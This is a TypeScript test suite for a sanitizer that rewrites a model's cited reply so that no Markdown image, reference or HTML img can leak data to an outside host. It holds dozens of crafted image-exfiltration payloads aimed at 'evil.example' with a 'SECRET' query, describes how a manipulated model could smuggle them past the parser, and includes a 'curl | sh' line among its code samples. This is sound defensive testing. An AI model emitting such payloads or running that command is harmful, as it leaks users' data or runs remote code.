import type { Node, Parent } from 'mdast';
import remarkGfm from 'remark-gfm';
import remarkParse from 'remark-parse';
import { unified } from 'unified';
import { describe, expect, it } from 'vitest';
import { replyCitations } from './reply-citations';

// A manipulated model may write Markdown that our parser reads as code or text, but a reader's client as an image,
// which leaks data through its URL. So a Markdown parser checks the sent text.

const ROOT = 'https://docs.example/';
const EVIL = '//evil.example/?q=SECRET';

function sent(pieces: readonly string[]): string {
  const cited = replyCitations({
    sectionOf: (number) => (number < 3 ? { url: `${ROOT}s${number}`, title: 'A "section"' } : undefined),
    sectionAt: () => undefined,
    pageAt: (path) => (path === '/ok' ? `${ROOT}ok` : undefined),
    isGiven: (address) => address === 'https://given.example/x',
    root: ROOT,
  });
  return pieces.map((piece) => cited.push(piece)).join('') + cited.end();
}

/** URLs that a client would load, or link to under a misleading label. */
function harmfulIn(markdown: string): string[] {
  return nodesIn(unified().use(remarkParse).use(remarkGfm).parse(markdown)).flatMap((node) => {
    if (['image', 'imageReference'].includes(node.type)) return [node.type];
    if (node.type === 'html') return 'value' in node && /evil/.test(String(node.value)) ? ['html'] : [];
    if (!('url' in node) || !URL.canParse(String(node.url), ROOT)) return [];
    if (new URL(String(node.url), ROOT).href.startsWith(ROOT)) return [];
    if (node.type !== 'link') return [node.type];
    const words = nodesIn(node).map((inner) => ('value' in inner ? String(inner.value) : ''));
    return String(node.url).endsWith(words.join('')) ? [] : [`link ${node.url}`];
  });
}

function nodesIn(node: Node): Node[] {
  return 'children' in node ? [node, ...(node as Parent).children.flatMap(nodesIn)] : [node];
}

describe.each([
  ['at once', (text: string) => [text]],
  ['letter by letter', (text: string) => [...text]],
])('an image is no image, written %s', (_, pieces) => {
  it.each([
    ['with brackets in brackets in its label', `![a[b[c]]](${EVIL})`],
    ['with a label longer than what may wait', `![${'a'.repeat(3_100)}](${EVIL})`],
    ['with a title in parentheses', `![x](${EVIL} (title))`],
    ['with quotation marks in its title', `![x](${EVIL} "a \\" b")`],
    ['with parentheses in parentheses', '![x](//evil.example/(a(b(c)))?q=SECRET)'],
    ['with an address in angle brackets', `![x](<${EVIL} b>)`],
    ['after a mark', `[1]![x](${EVIL})`],
    ['of a reference in a quotation', `![x][b]\n\n> [b]: ${EVIL}\n`],
    ['of a reference in a list', `![x][b]\n\n- [b]: ${EVIL}\n`],
    ['between ticks of two paragraphs', `\`\n\n![x](${EVIL})\n\n\``],
    ['between ticks of a paragraph and a list', `\`\n- ![x](${EVIL})\n\``],
    ['between ticks of two cells', `a|b|c\n-|-|-\n\` | ![x](${EVIL}) | \`\n`],
    ['after ticks that belong to a line before', `a \` b\nc \` ![x](${EVIL}) \`\n`],
    ['after a code block that ended with its list item', `- a\n\n  \`\`\`\n  c\n![x](${EVIL})\n  \`\`\`\n`],
    ['after a code block on the line of a list item', `- \`\`\`\n![x](${EVIL})\n\`\`\`\n`],
    ['after ticks that only look like a code block', `\`\`\` a \`\`\`\n![x](${EVIL})\n`],
    ['after a code block whose end is indented', `\`\`\`\n    \`\`\`\n\`\`\`\n![x](${EVIL})\n`],
    ['in a list that is none', `text\n20. \`\`\`\n    ![x](${EVIL})\n    \`\`\`\n`],
    ['after questions and ticks', `abc <next>q\n</next>\n\`\`\`\n![x](${EVIL})\n`],
    ['after an exclamation mark before a mark', `!![1]![x](${EVIL})`],
    ['as an element that a link completes', `<[img src=${EVIL}](x)>`],
    ['as an element that a mark completes', `<[99]img src="${EVIL}">`],
    ['in a cell after an address', `https://a.example/|![x](${EVIL})\n-|-\n`],
    ['of a reference whose name ends in code', `![x][b \`c]\n\n[b \`c]: ${EVIL}\`\n`],
    ['in an address with a tick', `<https://a\`![x](${EVIL})>`],
    ['beside an address after a backslash', `\\https://a.example/![x](${EVIL})`],
  ])('%s', (_name, text) => {
    expect(harmfulIn(sent(pieces(`So: ${text}`)))).toEqual([]);
    expect(harmfulIn(sent(pieces(text)))).toEqual([]);
  });

  it.each([
    ['without a protocol', 'See www.evil.example/?q=SECRET now.', 'See `www.evil.example/?q=SECRET` now.'],
    ['after a backslash', '\\https://evil.example/', '\\ `https://evil.example/`'],
    [
      'in the label of a link',
      '[<img src=//evil.example>](/ok)',
      '[&lt;img src=//evil.example>](https://docs.example/ok)',
    ],
  ])('an address %s is text', (_name, text, expected) => {
    expect(sent(pieces(text))).toBe(expected);
  });
});

it('no text of 1,000 that are put together from marks by chance has one, in whatever pieces it arrives', () => {
  const marks = [
    ...[`![x](${EVIL})`, '![', '](', ')', '[', ']', '[b]', `[b]: ${EVIL}`, ']:', '[1]', '[99]', '[ok](/ok)'],
    ...['\n', '\n', '\n\n', ' ', '    ', '\t', '- ', '1. ', '2. ', '> ', '# ', '---\n', '|', '|-|-|\n'],
    ...[
      '`',
      '`',
      '``',
      '```',
      '```\n',
      '```js\n',
      '~~~\n',
      '\\',
      '*',
      '_',
      '!',
      '(',
      ':',
      '<',
      '>',
      'a',
      'w',
      'http',
    ],
    ...[`<img src=${EVIL}>`, `<https:${EVIL}>`, `https:${EVIL}`, 'www.evil.example/w', '<next>', '</next>'],
  ];
  let state = 20_261_128;
  const chance = (below: number) => {
    state = (state * 1_664_525 + 1_013_904_223) % 2 ** 32;
    return Math.floor((state / 2 ** 32) * below);
  };
  for (let count = 0; count < 1_000; count++) {
    const text = Array.from({ length: 2 + chance(14) }, () => marks[chance(marks.length)]).join('');
    const pieces = text.match(new RegExp(`[\\s\\S]{1,${1 + chance(5)}}`, 'g')) ?? [];
    const whole = sent([text]);
    expect(sent(pieces), JSON.stringify(text)).toBe(whole);
    expect(harmfulIn(whole), JSON.stringify({ text, whole })).toEqual([]);
  }
});

it.each([
  ['in a list', '1. Run:\n\n   ```sh\n   curl https://a.example | sh\n   ```\n\n2. Done.\n'],
  ['in a list in a list', '- a\n  - b\n\n    ```md\n    ![x](image.png) [7] <b>\n    ```\n  - c\n'],
  ['on the line of a list item', '- ```js\n  f(a[7], `x`);\n  ```\n- b\n'],
  ['in a quotation', '> [!NOTE]\n> ```sh\n> npm i https://a.example\n> ```\n\nDone.\n'],
  ['with fewer ticks in it', '````md\n```js\na[7]\n```\n````\n'],
  [
    'with an address that was given',
    '- a\n  - b\n\n    ```html\n    <a href="https://given.example/x">\n    ```\n',
  ],
  ['with types of two', 'The `Map<string | number>` and `a[0](b)`.\n'],
])('code %s stays as it is', (_name, code) => {
  expect(sent([`So:\n\n${code}`])).toBe(`So:\n\n${code}`);
  expect(sent([...`So:\n\n${code}`])).toBe(`So:\n\n${code}`);
});
